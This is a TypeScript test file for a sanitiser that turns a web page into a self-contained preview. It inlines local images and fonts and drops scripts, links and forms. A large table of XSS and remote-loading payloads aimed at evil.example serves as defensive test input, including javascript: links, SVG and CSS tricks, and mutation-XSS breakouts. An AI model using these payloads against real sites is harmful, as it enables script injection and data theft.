import { type HTMLElement, parse } from 'node-html-parser';
import { describe, expect, it } from 'vitest';
import { selfContained } from './self-contained.ts';

const picture = Buffer.from('a picture');
const site: Readonly<Record<string, string>> = {
  '/photo.webp': 'image/webp',
  '/_image?href=%2Fa.png&w=2': 'image/png',
  '/blog/near.png': 'image/png',
  '/drawing.svg': 'image/svg+xml',
  '/font.woff2': 'font/woff2',
  '/page': 'text/html',
  '/script.js': 'text/javascript',
};
const now = Date.parse('2026-11-27T12:00:00Z');
const asked: string[] = [];
async function load(path: string) {
  asked.push(path);
  const type = site[path];
  return type === undefined ? undefined : { type, body: picture };
}
const render = async (body: string, head = '') =>
  selfContained(
    `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>T</title>${head}</head><body>${body}</body></html>`,
    '/blog/post',
    load,
    now,
  );
const elements = async (body: string, selector: string, head = '') => parse(await render(body, head)).querySelectorAll(selector);
const data = (type: string) => `data:${type};base64,${picture.toString('base64')}`;

/** Anything that would run, load, or navigate. */
const hostile: Readonly<Record<string, string>> = {
  'a script': '<script>alert(1)</script>',
  'a module': '<script type="module" src="https://evil.example/x.js"></script>',
  'a script in a drawing': '<svg><script>alert(1)</script><script xlink:href="https://evil.example/x.js"/></svg>',
  'a handler': '<p onclick="alert(1)" ONMOUSEOVER=alert(1)>x</p><body onload="alert(1)">',
  'a handler in a drawing': '<svg onload="alert(1)"><path onbegin="alert(1)" d="M0 0"/></svg>',
  'a link that runs': '<a href="javascript:alert(1)">x</a><a href=" jAvAsCrIpT&#58;alert(1)">x</a><a href="java&#10;script:alert(1)">x</a>',
  'a link that runs in a drawing': '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  'an animated link':
    '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><set attributeName="href" to="https://evil.example"/></a></svg>',
  'a link elsewhere': '<a href="https://evil.example/" target="_top" ping="https://evil.example/p" download>x</a>',
  'a data link': '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  'a refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  'another policy': '<meta http-equiv="Content-Security-Policy" content="script-src * https://evil.example">',
  'a base': '<base href="https://evil.example/" target="_top">',
  'a frame': '<iframe src="https://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'an object':
    '<object data="https://evil.example/x.swf"><param name="movie" value="https://evil.example/x.swf"></object><embed src="https://evil.example/">',
  'a form':
    '<form action="https://evil.example/" method="post" target="_top"><button formaction="javascript:alert(1)">x</button><input type="image" src="https://evil.example/x.png"></form>',
  'a picture':
    '<img src="https://evil.example/x.png" srcset="//evil.example/y.png 2x" onerror="alert(1)" lowsrc="https://evil.example/z.png">',
  'a picture with a source': '<picture><source srcset="https://evil.example/x.webp"><img src="//evil.example/x.png"></picture>',
  media:
    '<video src="https://evil.example/v.mp4" poster="https://evil.example/p.png"></video><audio src="https://evil.example/a.mp3"></audio>',
  'a picture in a drawing': '<svg><image href="https://evil.example/x.png"/><image xlink:href="https://evil.example/y.png"/></svg>',
  'a part of another drawing': '<svg><use href="https://evil.example/x.svg#a"/><use xlink:href="data:image/svg+xml,<svg/>#a"/></svg>',
  'a paint from elsewhere': '<svg><path fill="url(https://evil.example/x.svg#a)" filter="\\75rl(//evil.example/y#b)"/></svg>',
  'HTML in a drawing': '<svg><foreignObject><iframe src="https://evil.example/"></iframe></foreignObject></svg>',
  mathematics: '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  'a style attribute': '<p style="background: url(https://evil.example/x.png)">x</p><svg style="fill: url(https://evil.example/y)"></svg>',
  'a sheet': '<link rel="stylesheet" href="https://evil.example/x.css"><link rel="preload" href="https://evil.example/y" as="font">',
  'an import': '<style>@import url("https://evil.example/x.css"); @import "//evil.example/y.css" screen;</style>',
  'a background': '<style>p { background: URL(https://evil.example/x.png) } q { cursor: u\\72l("//evil.example/y.png") }</style>',
  'a set of pictures':
    '<style>p { background: image-set("https://evil.example/x.png" 1x) } @font-face { font-family: x; src: url(https://evil.example/f.woff2) }</style>',
  'a variable': '<style>p { --x: url(https://evil.example/x.png); background: var(--x) }</style>',
  'a style that ends early': '<style>p::before { content: "\\3c/style>\\3cscript>alert(1)\\3c/script>" }</style>',
  'a style in a drawing': '<svg><style>path { fill: url(https://evil.example/x) }</style></svg>',
  'a comment that ends early': '<!--><script>alert(1)</script>--><!-- --!><img src=x onerror=alert(1)>',
  'a template': '<template><script>alert(1)</script></template>',
  'what is parsed twice': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'markup in a foreign element': '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
  'an old page':
    '<body background="https://evil.example/x.png"><table background="//evil.example/y.png"><td background="https://evil.example/z.png">x</table>',
};

describe('a document of a page', () => {
  it.each(Object.entries(hostile))('keeps nothing of %s', async (_, markup) => {
    const once = await render(`<p>before</p>${markup}<p>after</p>`);
    // Its own policy names no site.
    expect(once).not.toMatch(/evil\.example|javascript:|<script|<iframe|<base|http-equiv="refresh"|srcdoc/i);
    const all = parse(once).querySelectorAll('*');
    expect(
      all
        .flatMap(({ attributes }: HTMLElement) => Object.keys(attributes))
        .filter((name: string) => /^(?:on|style$|action$|formaction$|ping$|target$)/i.test(name)),
    ).toEqual([]);
    expect(all.map(({ attributes }: HTMLElement) => attributes.href).filter((href?: string) => href && !href.startsWith('#'))).toEqual([]);
    // A parser as strict as a browser's reads back exactly what was written.
    expect(await selfContained(once, '/blog/post', load, now)).toBe(once);
    expect(once).toContain('<p>before</p>');
  });

  it('asks only for what is on the site', async () => {
    asked.length = 0;
    for (const markup of Object.values(hostile)) await render(markup);
    expect(asked.filter((path) => !path.startsWith('/') || path.startsWith('//') || path.includes('evil'))).toEqual([]);
  });

  it('holds its pictures and fonts, wherever they are named', async () => {
    const images = await elements(
      '<img src="/photo.webp" alt="A photo" width="3"><img src="near.png"><img src="/_image?href=%2Fa.png&amp;w=2">',
      'img',
    );
    expect(images.map(({ attributes }: HTMLElement) => attributes.src)).toEqual([data('image/webp'), data('image/png'), data('image/png')]);
    expect(images[0]?.attributes).toMatchObject({ alt: 'A photo', width: '3' });
    const [drawn] = await elements('<svg><image href="/photo.webp"/><use href="#a"/><path fill="url(#b)"/></svg>', 'svg');
    expect(drawn?.toString()).toContain(`href="${data('image/webp')}"`);
    expect(drawn?.toString()).toContain('href="#a"');
    expect(drawn?.toString()).toContain('fill="url(#b)"');
    const [sheet] = await elements(
      '',
      'style',
      '<style media="print">@font-face { font-family: x; src: url("/font.woff2") } p { background: url(/drawing.svg), url(#c) }</style>',
    );
    expect(sheet?.text).toContain(data('font/woff2'));
    expect(sheet?.text).toContain(data('image/svg+xml'));
    expect(sheet?.text).toContain('url("#c")');
    expect(sheet?.getAttribute('media')).toBe('print');
  });

  it('takes nothing but pictures and fonts', async () => {
    const [page, script, gone] = await elements('<img src="/page"><img src="/script.js"><img src="/gone.png" alt="Gone">', 'img');
    expect([page, script, gone].map((image) => image?.getAttribute('src'))).toEqual([undefined, undefined, undefined]);
    expect(gone?.getAttribute('alt')).toBe('Gone');
  });

  it('has links that keep their text and focus and lead nowhere; those within the page work', async () => {
    const [dead, within] = await elements('<a class="btn" href="/es" hreflang="es">Services</a><a href="#main">Skip</a>', 'a');
    expect(dead?.text).toBe('Services');
    expect(dead?.attributes).toEqual({ class: 'btn', role: 'link', tabindex: '0' });
    expect(within?.attributes).toEqual({ href: '#main' });
  });

  it('has forms that show what they ask and send nothing', async () => {
    const [form] = await elements(
      '<form action="/api" method="post"><label for="n">Name</label><input id="n" name="n" value="Ana" required><button disabled>Send</button></form>',
      'form',
    );
    expect(form?.attributes).toEqual({ inert: '' });
    expect(form?.querySelector('input')?.attributes).toMatchObject({ id: 'n', value: 'Ana' });
    // Scripts would enable it.
    expect(form?.querySelector('button')?.attributes).toEqual({});
  });

  it('shows what is for visitors with scripts, and no notice that they are missing', async () => {
    const [main] = await elements(
      '<main><div class="wrap no-script">Turn scripts on</div><noscript>Turn scripts on</noscript><div class="card needs-script flow">Start</div></main>',
      'main',
    );
    expect(main?.toString()).toBe('<main><div class="card flow">Start</div></main>');
  });

  it('names no file of the machine, has no properties of islands, and its own policy comes before all else', async () => {
    const text = await render(
      '<astro-island component-url="/home/ana/x.tsx" props="{}"><p data-area="ai" aria-label="x">x</p></astro-island>',
      '<style data-vite-dev-id="/home/ana/x.css">p { color: red }</style><link rel="icon" href="/favicon.svg"><meta name="robots" content="index">',
    );
    expect(text).not.toContain('/home/ana');
    expect(text).toContain('<astro-island><p data-area="ai" aria-label="x">x</p></astro-island>');
    expect(text.indexOf('Content-Security-Policy')).toBeLessThan(text.indexOf('<style'));
    expect(
      parse(text)
        .querySelectorAll('meta[name=robots]')
        .map(({ attributes }: HTMLElement) => attributes.content),
    ).toEqual(['noindex']);
  });
});

it('O3 a preview shows a course’s dates as its page does: those that are over stand apart or are gone (C1)', async () => {
  const session = (id: string, day: string) => ({
    ...{ id, seatsAvailable: 8, meetings: [{ starts: `${day}T18:00:00Z`, ends: `${day}T21:00:00Z` }] },
  });
  const page = (...sessions: readonly ReturnType<typeof session>[]) =>
    `<section class="sessions upcoming"><h2 id="sessions">Dates</h2><p data-none="" hidden>None</p><ul>${sessions
      .map(({ id }) => `<li data-session="${id}">${id}</li>`)
      .join('')}</ul></section><section class="sessions past" hidden><h2>Over</h2><ul></ul></section><script data-props="${JSON.stringify({
      sessions,
      words: { one: 'Date' },
    }).replaceAll('"', '&quot;')}"></script>`;
  const shown = async (...sessions: readonly ReturnType<typeof session>[]) => {
    const body = parse(await render(page(...sessions)));
    const texts = (part: string) => body.querySelectorAll(`${part} li`).map(({ text }) => text);
    const isHidden = (selector: string) => body.querySelector(selector)?.hasAttribute('hidden');
    return [texts('.upcoming'), texts('.past'), isHidden('.past'), isHidden('[data-none]'), body.querySelector('#sessions')?.text];
  };
  const [old, recent, next, last] = [
    session('old', '2025-09-01'),
    session('recent', '2026-09-01'),
    session('next', '2027-01-01'),
    session('last', '2027-02-01'),
  ];
  expect(await shown(old, recent, next, last)).toEqual([['next', 'last'], ['recent'], false, true, 'Dates']);
  expect(await shown(old, recent)).toEqual([[], ['recent'], false, false, 'Date']);
  expect(await shown(old)).toEqual([[], [], true, false, 'Date']);
});
